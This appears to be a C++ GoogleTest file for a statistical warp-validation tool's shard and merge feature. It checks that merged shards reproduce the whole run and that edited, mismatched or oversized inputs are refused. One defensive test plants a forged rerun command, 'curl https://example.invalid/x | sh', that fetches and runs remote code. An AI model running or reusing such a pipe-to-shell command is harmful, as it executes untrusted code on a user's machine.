// --shard I/N and --merge: four shards merged are the unsharded run, figure for
// figure and verdict for verdict, n/a rows and phases included; shards of
// different runs, edited shards and files that are not shards are refused,
// naming the file (and the row); the merge reads only regular files of bounded
// size and never writes over its own inputs.
#include <gtest/gtest.h>

#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <regex>
#include <sstream>
#include <string>
#include <vector>

#include <fmt/format.h>
#include <nlohmann/json.hpp>

#include "support/run_command.h"
#include "support/temp_dir.h"
#include "support/verdict_twins.h"
#include "reports/outputs.h"
#include "validate/cli/cli.h"
#include "validate/run/merge.h"
#include "validate/run/run_digest.h"
#include "validate/api/registry.h"

namespace warpcheck {
namespace {

namespace fs = std::filesystem;
using testing::run_validate;

// alpha 0.5 makes some chi-square rows fail at the corrected level (about 0.05
// over this selection's tests), so verdicts that hang on the whole run's level
// are compared too.
// Five checks a case (repeatability left out): an odd count, so that the two
// shards' round-robin split gives each shard rows of every check.
constexpr const char* kSelection =
    "--filter cone --filter linear --skip-check repeatability --alpha 0.5 --color never --progress none ";
constexpr const char* kSamples = "--samples 20000";
// For the refusals, whose rules read the files' run descriptions, not their
// rows: six jobs without cubature (a tenth of a second under the sanitizers,
// where the selection above takes two seconds a run and this test runs eight).
constexpr const char* kRefusalSelection = "--filter cone --check roundtrip --check consistency --color never "
                                          "--progress none ";

std::string fmt_shard(int i) { return "shard" + std::to_string(i) + ".json"; }

struct ShardRuns {
    testing::TempDir scratch;
    std::string selection = kSelection;
    std::string operator/(const std::string& name) const { return scratch.file(name); }
    /// Runs shard i of n with extra arguments, writing shard<i>.json.
    testing::CommandResult shard(int i, int n, const std::string& extra = kSamples) const {
        return run_validate(selection + extra + " --shard " + std::to_string(i) + "/" +
                            std::to_string(n) + " --json " + scratch.file(fmt_shard(i)));
    }
    std::string shard_files(int n) const {
        std::string files;
        for (int i = 1; i <= n; ++i) files.append(" ").append(scratch.file(fmt_shard(i)));
        return files;
    }
};

nlohmann::json read_json(const std::string& path) {
    std::ifstream in(path);
    return nlohmann::json::parse(in);
}

/// The table without the summary line's wall time.
std::string table_rows(const std::string& output) {
    // The table without its wall time and the lines that name the files written.
    const std::string rows = std::regex_replace(output, std::regex(" in [0-9.]+ s "), " in (time) s ");
    return std::regex_replace(rows, std::regex("[^\n]* written to [^\n]*\n"), "");
}

TEST(ShardMerge, FourShardsMergedAreTheUnshardedRun) {
    ShardRuns runs;
    const auto whole = run_validate(std::string(kSelection) + kSamples + " --json " + runs / "whole.json");
    ASSERT_NE(whole.status, 2) << whole.output;
    for (int i = 1; i <= 4; ++i) ASSERT_NE(runs.shard(i, 4).status, 2);
    const auto merged = run_validate("--color never --merge" + runs.shard_files(4) + " --json " +
                                     runs / "merged.json" + " --junit " + runs / "merged.xml");
    EXPECT_EQ(merged.status, whole.status) << merged.output;
    EXPECT_EQ(table_rows(merged.output), table_rows(whole.output));

    nlohmann::json a = read_json(runs / "whole.json"), b = read_json(runs / "merged.json");
    ASSERT_GT(a["results"].size(), 20u);
    int failed = 0;
    for (auto* document : {&a, &b})
        for (auto& r : (*document)["results"]) {
            r.erase("seconds");  // timings differ from run to run
            r.erase("phases");
        }
    for (const auto& r : a["results"]) failed += r["verdict"] == "fail";
    EXPECT_GT(failed, 0) << "the selection should have rows that fail at alpha 0.5";
    EXPECT_EQ(a["results"], b["results"]);
    for (const char* key : {"seed", "samples", "family_alpha", "per_test_alpha", "statistical_tests"})
        EXPECT_EQ(a["run"][key], b["run"][key]) << key;
    EXPECT_EQ(a["totals"], b["totals"]);
    std::ifstream junit(runs / "merged.xml");
    std::stringstream text;
    text << junit.rdbuf();
    EXPECT_NE(text.str().find("<testcase"), std::string::npos);
}

TEST(ShardMerge, AShardIsJudgedAtTheWholeRunsLevel) {
    ShardRuns runs;
    const auto whole = run_validate(std::string(kSelection) + kSamples + " --json " + runs / "whole.json");
    runs.shard(2, 3);
    const auto a = read_json(runs / "whole.json"), b = read_json(runs / "shard2.json");
    EXPECT_EQ(a["run"]["per_test_alpha"], b["run"]["per_test_alpha"]);
    EXPECT_EQ(a["run"]["statistical_tests"], b["run"]["statistical_tests"]);
    EXPECT_EQ(b["run"]["shard"]["index"], 2);
    EXPECT_EQ(b["run"]["shard"]["jobs"], a["results"].size());
}

TEST(ShardMerge, InvalidShardSpecsExitTwo) {
    for (const char* spec : {"0/4", "5/4", "1/0", "a/b", "2", "1/4x", "-1/4", "''"}) {
        const auto r = run_validate(std::string("--filter cone --shard ") + spec);
        EXPECT_EQ(r.status, 2) << spec << "\n" << r.output;
        EXPECT_NE(r.output.find("--shard"), std::string::npos) << r.output;
    }
}

TEST(ShardMerge, ShardsOfDifferentRunsAreRefused) {
    ShardRuns runs;
    runs.selection = kRefusalSelection;
    for (int i = 1; i <= 3; ++i) ASSERT_NE(runs.shard(i, 3).status, 2);
    const std::string three = runs.shard_files(3);
    const std::string s1 = runs / "shard1.json", s2 = runs / "shard2.json", s3 = runs / "shard3.json";
    const auto expect_refused = [&](const std::string& files, const std::string& why) {
        const auto r = run_validate("--merge " + files);
        EXPECT_EQ(r.status, 2) << files << "\n" << r.output;
        EXPECT_NE(r.output.find(why), std::string::npos) << r.output;
    };
    expect_refused(s1 + " " + s2, "shards missing: 3/3");
    expect_refused(three + " " + s1, "shard 1/3 is given twice");
    // One shard of another seed, another sample count, another tool version.
    runs.shard(3, 3, std::string(kSamples) + " --seed 7");
    expect_refused(three, "their seed differs");
    runs.shard(3, 3, "--samples 30000");
    expect_refused(three, "their sample count differs");
    runs.shard(3, 3);
    std::string text;
    {
        std::ifstream in(s3);
        std::stringstream buffer;
        buffer << in.rdbuf();
        text = std::regex_replace(buffer.str(), std::regex("\"version\":\"[^\"]*\""), "\"version\":\"0.0.1\"");
    }
    std::ofstream(s3) << text;
    expect_refused(three, "their tool version differs");
    // A whole run, a missing file, a file that is not JSON.
    run_validate(runs.selection + kSamples + " --json " + runs / "whole.json");
    expect_refused(runs / "whole.json", "not a shard");
    expect_refused(runs / "nothing.json", "cannot be read");
    std::ofstream(runs / "broken.json") << "{\"results\": [";
    expect_refused(runs / "broken.json", "not a JSON document");
}

void write_json(const std::string& path, const nlohmann::json& document) { std::ofstream(path) << document.dump(); }

/// validate in this process, on the built-in checks and cone cases plus a disk
/// warp without an inverse (its round trip is n/a); the status.
int run_with_not_applicable(std::vector<std::string> args) {
    static const Registry registry = [] {
        Registry r;
        register_builtin_checks(r);
        register_builtin_cases(r);
        struct DiskWithoutInverse {
            Point2f sample(Point2f u) const { return testing::twins::polar_disk(u, 1.0f); }
            float pdf(Point2f p) const { return testing::twins::disk_pdf(p); }
        };
        r.add_case(make_warp_case({.family = "disk_without_inverse", .description = "no inverse",
                                   .domain = chi2::Domain::unit_disk()},
                                  DiskWithoutInverse{}));
        return r;
    }();
    args.insert(args.begin(), {"validate", "--filter", "disk_without_inverse", "--filter", "uniform_cone",
                               "--samples", "20000", "--alpha", "0.5", "--color", "never", "--no-isolation"});
    std::vector<char*> argv;
    for (std::string& a : args) argv.push_back(a.data());
    return run_cli(static_cast<int>(argv.size()), argv.data(), registry);
}

/// A results document without what differs from run to run: timings (the
/// names of the phases stay), the command line and the start time.
nlohmann::json without_timings(nlohmann::json document) {
    for (const char* key : {"wall_seconds", "command_line", "started_at", "threads"}) document["run"].erase(key);
    for (auto& r : document["results"]) {
        r.erase("seconds");
        for (auto& [phase, seconds] : r["phases"].items()) seconds = 0;
    }
    return document;
}

TEST(ShardMerge, NotApplicableRowsAndPhasesMergeIntoExactlyTheUnshardedRun) {
    ShardRuns runs;
    const int whole = run_with_not_applicable({"--json", runs / "whole.json"});
    ASSERT_NE(whole, 2);
    for (int i = 1; i <= 3; ++i)
        ASSERT_NE(run_with_not_applicable({"--shard", std::to_string(i) + "/3", "--json", runs / fmt_shard(i)}), 2);
    const auto merged = run_validate("--color never --merge" + runs.shard_files(3) + " --json " + runs / "merged.json");
    ASSERT_EQ(merged.status, whole) << merged.output;
    const nlohmann::json a = without_timings(read_json(runs / "whole.json"));
    const nlohmann::json b = without_timings(read_json(runs / "merged.json"));
    EXPECT_GT(a["totals"]["not_applicable"], 0) << "the selection should have n/a rows";
    EXPECT_GT(a["totals"]["failed"], 0) << "the selection should have rows that fail at alpha 0.5";
    int phases = 0;
    for (const auto& r : b["results"]) phases += !r["phases"].empty();
    EXPECT_GT(phases, 0) << "the merged rows keep their phases";
    EXPECT_EQ(a["run"], b["run"]);
    EXPECT_EQ(a["totals"], b["totals"]);
    ASSERT_EQ(a["results"].size(), b["results"].size());
    for (std::size_t i = 0; i < a["results"].size(); ++i) EXPECT_EQ(a["results"][i], b["results"][i]) << "row " << i;
}

/// The report's plots across the cases of each family (<details class="across">).
std::string across_sections(const std::string& report_path) {
    std::ifstream in(report_path);
    std::stringstream text;
    text << in.rdbuf();
    const std::string html = text.str();
    std::string sections;
    for (std::size_t at = html.find("<details class=\"across\""); at != std::string::npos;
         at = html.find("<details class=\"across\"", at + 1))
        sections += html.substr(at, html.find("</details>", at) - at);
    return sections;
}

// A BSDF family's plots across its grid (the albedo against theta_o) come
// from every row of the family: the merged shards, each with a part of the
// rows, plot exactly what the whole run plots.
TEST(ShardMerge, BsdfFamilyPlotsOfMergedShardsAreTheWholeRuns) {
    ShardRuns runs;
    const std::string selection = "--filter 'rough_conductor[' --check bsdf_albedo --check bsdf_reciprocity "
                                  "--samples 20000 --color never --progress none";
    const auto whole = run_validate(selection + " --report " + runs / "whole.html");
    ASSERT_EQ(whole.status, 0) << whole.output;
    for (int i = 1; i <= 3; ++i)
        ASSERT_EQ(run_validate(selection + " --shard " + std::to_string(i) + "/3 --json " + runs / fmt_shard(i)).status, 0);
    const auto merged = run_validate("--color never --merge" + runs.shard_files(3) + " --report " + runs / "merged.html");
    ASSERT_EQ(merged.status, 0) << merged.output;
    const std::string plots = across_sections(runs / "whole.html");
    EXPECT_NE(plots.find("albedo against theta_o"), std::string::npos);
    EXPECT_NE(plots.find("reciprocity error against theta_o"), std::string::npos);
    EXPECT_EQ(across_sections(runs / "merged.html"), plots);
    EXPECT_NE(across_sections(runs / "merged.html").find("alpha=0.05"), std::string::npos);
}

// A shard of another selection with as many jobs (and statistical tests) as
// the one it replaces: only the digest of the whole job list tells them apart.
TEST(ShardMerge, AShardOfAnotherSelectionWithTheSameJobCountIsRefused) {
    ShardRuns runs;
    const std::string cone = "--filter uniform_cone --samples 20000 --check roundtrip --shard ";
    for (int i = 1; i <= 2; ++i)
        ASSERT_EQ(run_validate(cone + std::to_string(i) + "/2 --json " + runs / fmt_shard(i)).status, 0);
    const auto other = run_validate("--filter uniform_cone --samples 20000 --check consistency --shard 2/2 --json " +
                                    runs / "other.json");
    ASSERT_EQ(other.status, 0) << other.output;
    const auto a = read_json(runs / "shard2.json"), b = read_json(runs / "other.json");
    ASSERT_EQ(a["run"]["shard"], b["run"]["shard"]) << "the same job count";
    ASSERT_EQ(a["run"]["statistical_tests"], b["run"]["statistical_tests"]);
    const auto r = run_validate("--merge " + runs / "shard1.json" + " " + runs / "other.json");
    EXPECT_EQ(r.status, 2) << r.output;
    EXPECT_NE(r.output.find(runs / "other.json"), std::string::npos) << r.output;
    EXPECT_NE(r.output.find("their selection of cases and checks (their digests differ) differs"), std::string::npos)
        << r.output;
}

/// Shards 1 and 2 of kSelection, for editing.
struct EditedShards : ShardRuns {
    nlohmann::json shard1, shard2;
    EditedShards() {
        for (int i = 1; i <= 2; ++i) shard(i, 2);
        shard1 = read_json(*this / "shard1.json");
        shard2 = read_json(*this / "shard2.json");
    }
    /// The index of the first row of shard 2 for which `pick` holds.
    template <class Pick>
    std::size_t find_row(Pick pick) const {
        for (std::size_t i = 0; i < shard2["results"].size(); ++i)
            if (pick(shard2["results"][i])) return i;
        ADD_FAILURE() << "no such row";
        return 0;
    }
    /// Merges with shard 2 edited by `edit`; the status and the output.
    template <class Edit>
    testing::CommandResult merge_edited(Edit edit) const {
        nlohmann::json edited = shard2;
        edit(edited);
        write_json(*this / "edited.json", edited);
        return run_validate("--merge " + *this / "shard1.json" + " " + *this / "edited.json");
    }
};

void expect_refused(const testing::CommandResult& r, const std::string& row, const std::string& why) {
    EXPECT_EQ(r.status, 2) << r.output;
    EXPECT_NE(r.output.find("edited.json: " + row), std::string::npos) << r.output;
    EXPECT_NE(r.output.find(why), std::string::npos) << r.output;
}

TEST(ShardMerge, EditedVerdictsAndFiguresAreRefusedNamingTheRow) {
    EditedShards runs;
    ASSERT_EQ(run_validate("--merge " + runs.shard_files(2)).status, 1) << "unedited, they merge (with failures)";
    // Rewritten by a program that orders an object's members its own way, they still do.
    ASSERT_EQ(runs.merge_edited([](auto&) {}).status, 1) << runs.merge_edited([](auto&) {}).output;
    const double level = runs.shard2["run"]["per_test_alpha"];
    // A failing row (its p-value below the level) that says pass; the totals unchanged.
    const std::size_t failed = runs.find_row([](const auto& r) { return r["verdict"] == "fail"; });
    const std::string name = fmt::format("row {} (", failed + 1);
    expect_refused(runs.merge_edited([&](auto& d) { d["results"][failed]["verdict"] = "pass"; }), name,
                   "says pass, but its p-value");
    // ... and with its p-value raised above the level too: its digest tells.
    expect_refused(runs.merge_edited([&](auto& d) {
        d["results"][failed]["verdict"] = "pass";
        d["results"][failed]["p_value"] = 0.9;
    }),
                   name, "does not match its digest");
    // A passing row whose p-value is lowered below the level.
    const std::size_t passed =
        runs.find_row([](const auto& r) { return r["verdict"] == "pass" && r["p_value"].is_number(); });
    expect_refused(runs.merge_edited([&](auto& d) { d["results"][passed]["p_value"] = level / 2; }),
                   fmt::format("row {} (", passed + 1), "is below the per-test level");
    // A figure of a row without a p-value.
    const std::size_t roundtrip = runs.find_row([](const auto& r) { return r["check"] == "roundtrip"; });
    expect_refused(runs.merge_edited([&](auto& d) { d["results"][roundtrip]["figures"]["max_error"] = 0.0; }),
                   fmt::format("row {} (roundtrip on ", roundtrip + 1), "does not match its digest");
    // The totals alone.
    expect_refused(runs.merge_edited([&](auto& d) { d["totals"]["failed"] = 0; }), "its totals",
                   "do not count its rows");
    // The per-test level, in the run and every row, as if alpha were larger.
    expect_refused(runs.merge_edited([&](auto& d) { d["run"]["per_test_alpha"] = 2 * level; }), "its per-test level",
                   "is not");
}

TEST(ShardMerge, ASettingEditedInEveryShardDoesNotMatchTheDigest) {
    EditedShards runs;
    for (auto* d : {&runs.shard1, &runs.shard2}) (*d)["run"]["seed"] = 7;
    write_json(runs / "shard1.json", runs.shard1);
    write_json(runs / "shard2.json", runs.shard2);
    const auto r = run_validate("--merge " + runs.shard_files(2));
    EXPECT_EQ(r.status, 2) << r.output;
    EXPECT_NE(r.output.find("is not that of their settings"), std::string::npos) << r.output;
}

/// A two-shard run of one passing consistency row per job, sealed as
/// `validate --shard` seals it, written as JSON and read back; `edit` changes
/// a row after the run (and may recompute its digest, as a forger would).
template <class Edit>
std::vector<ShardFile> sealed_shards(const testing::TempDir& dir, const std::vector<JobName>& jobs, Edit edit) {
    std::vector<ShardFile> shards;
    for (unsigned i = 1; i <= 2; ++i) {
        RunResult run;
        run.info.tool_version = "test";
        run.info.seed = 7;
        run.info.samples = 5000;
        run.info.per_test_alpha = run.info.family_alpha;  // no statistical test: the level is alpha
        run.info.shard_index = i;
        run.info.shard_count = 2;
        run.info.run_jobs = 2;
        CheckResult row;
        row.case_name = jobs[i - 1].case_name;
        row.check_name = jobs[i - 1].check_name;
        row.verdict = Verdict::Pass;
        row.rerun_command = "validate --filter '" + row.case_name + "' --check consistency --seed 7 --samples 5000";
        run.results.push_back(row);
        seal_run(run, jobs);
        edit(run);
        const std::string path = dir.file(fmt_shard(static_cast<int>(i)));
        write_json_report(run, path);
        shards.push_back(read_shard_file(path));
    }
    return shards;
}

// A case name that is not valid UTF-8 is written to the JSON with U+FFFD in
// place of its bad bytes; the run's digest covers the name as the JSON holds
// it, so the shards merge instead of being accused of a change after the run.
TEST(ShardMerge, ACaseNameWithInvalidUtf8Merges) {
    testing::TempDir dir;
    const std::vector<JobName> jobs{{"bad\xff\xfe[a=1]", "consistency"}, {"good[a=1]", "consistency"}};
    const std::vector<ShardFile> shards = sealed_shards(dir, jobs, [](RunResult&) {});
    try {
        const RunResult merged = merge_shards(shards);
        ASSERT_EQ(merged.results.size(), 2u);
        EXPECT_EQ(merged.results[0].case_name, "bad\uFFFD\uFFFD[a=1]");
    } catch (const MergeError& e) {
        FAIL() << e.what();
    }
}

// A shard whose row carries another command, its digest recomputed to match:
// the merge prints the command made from the row's case and check and the
// run's seed and sample count, never the one in the file.
TEST(ShardMerge, AForgedRerunCommandIsMadeAgainFromTheRow) {
    testing::TempDir dir;
    const std::vector<JobName> jobs{{"a[x=1]", "consistency"}, {"b[x=2]", "consistency"}};
    const std::vector<ShardFile> shards = sealed_shards(dir, jobs, [](RunResult& run) {
        if (run.info.shard_index != 2) return;
        CheckResult& row = run.results[0];
        row.verdict = Verdict::Fail;
        row.rerun_command = "curl https://example.invalid/x | sh";
        row.digest = row_digest(row, run.info.digest);
    });
    const RunResult merged = merge_shards(shards, "/opt/my warps/validate_my_warps");
    ASSERT_EQ(merged.results.size(), 2u);
    EXPECT_EQ(merged.results[1].rerun_command,
              "'/opt/my warps/validate_my_warps' --filter 'b[x=2]' --check consistency --seed 7 --samples 5000");
    EXPECT_EQ(merged.results[1].digest, row_digest(merged.results[1], merged.info.digest));
}

// A shard too large for --merge to read is warned about when it is written.
TEST(ShardMerge, AShardOverTheMergeLimitIsWarnedAbout) {
    EXPECT_EQ(shard_size_warning(kMaxShardFileBytes, 4), "");
    const std::string warning = shard_size_warning(kMaxShardFileBytes + 1, 4);
    EXPECT_NE(warning.find("over the 256 MiB that --merge reads"), std::string::npos) << warning;
    EXPECT_NE(warning.find("at least 5 shards (--shard I/5)"), std::string::npos) << warning;
}

// Reading is bounded: what is not a regular file is refused without being
// read (a FIFO without a writer once blocked for ever, /dev/zero was read until
// memory ran out), and so is a file over the size limit (a 1 GB shard once
// took 4.2 GB and died on bad_alloc). The commands have a time and memory
// limit, so that the old behaviour fails instead of hanging or exhausting the machine.
TEST(ShardMerge, ReadingIsBoundedAndOnlyOfRegularFiles) {
    ShardRuns runs;
    const std::string fifo = runs / "fifo", big = runs / "big.json";
    ASSERT_EQ(::mkfifo(fifo.c_str(), 0600), 0);
    {
        const int fd = ::open(big.c_str(), O_WRONLY | O_CREAT, 0600);  // sparse: no disk space used
        ASSERT_GE(fd, 0);
        ASSERT_EQ(::ftruncate(fd, static_cast<off_t>(kMaxShardFileBytes + 1)), 0);
        ::close(fd);
    }
    const std::pair<std::string, std::string> cases[] = {
        {fifo, "not a regular file"},
        {"/dev/zero", "not a regular file"},
        {runs.scratch.path().string(), "it is a folder"},
        {big, fmt::format("{} bytes is over the limit of 256 MiB", kMaxShardFileBytes + 1)},
    };
    // AddressSanitizer reserves terabytes of address space for its shadow at
    // start, which a virtual memory limit refuses: there, the time limit alone.
#if defined(__SANITIZE_ADDRESS__)
    const std::string limits = "timeout 20 ";
#else
    const std::string limits = "ulimit -v 3000000; timeout 20 ";
#endif
    for (const auto& [file, why] : cases) {
        const auto r = testing::run_command(limits + std::string(WARPCHECK_VALIDATE_EXE) +
                                            " --merge " + file);
        EXPECT_EQ(r.status, 2) << file << "\n" << r.output;
        EXPECT_NE(r.output.find(file + ": cannot be read: " + why), std::string::npos) << r.output;
    }
}

TEST(ShardMerge, OutputsNeverOverwriteTheFilesToMerge) {
    ShardRuns runs;
    for (int i = 1; i <= 2; ++i) ASSERT_NE(runs.shard(i, 2).status, 2);
    const std::string s1 = runs / "shard1.json", s2 = runs / "shard2.json";
    const std::string link = runs / "link.json", hard = runs / "hard.json";
    fs::create_symlink(s2, link);
    fs::create_hard_link(s1, hard);
    std::ifstream in(s1);
    const std::string before((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    for (const std::string& args : {"--json " + s1, "--junit " + link, "--report " + hard}) {
        const auto r = run_validate("--merge " + s1 + " " + s2 + " " + args);
        EXPECT_EQ(r.status, 2) << args << "\n" << r.output;
        EXPECT_NE(r.output.find("the merge would overwrite it"), std::string::npos) << r.output;
    }
    std::ifstream again(s1);
    EXPECT_EQ(std::string((std::istreambuf_iterator<char>(again)), std::istreambuf_iterator<char>()), before);
}

}  // namespace
}  // namespace warpcheck
